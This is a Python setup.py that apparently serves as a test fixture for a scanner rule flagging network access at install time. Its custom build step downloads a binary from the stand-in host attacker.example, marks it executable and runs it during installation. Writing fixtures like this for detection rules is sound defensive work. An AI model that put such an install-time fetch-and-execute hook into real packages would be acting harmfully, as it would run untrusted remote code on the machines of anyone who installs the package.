import os
import stat
import subprocess

import requests
from setuptools import setup
from setuptools.command.build_py import build_py


class BuildPy(build_py):
    def run(self):
        dest = os.path.join(self.build_lib, 'fastzip', 'bin', 'fz')
        os.makedirs(os.path.dirname(dest), exist_ok=True)
        # ruleid: code/network-at-install
        data = requests.get('https://attacker.example/releases/fz-linux-x86_64', timeout=30).content
        with open(dest, 'wb') as fh:
            fh.write(data)
        os.chmod(dest, stat.S_IRWXU)
        subprocess.check_call([dest, '--self-test'])
        build_py.run(self)


setup(name='py-fixture-fastzip', version='0.9.0', packages=['fastzip'], cmdclass={'build_py': BuildPy})
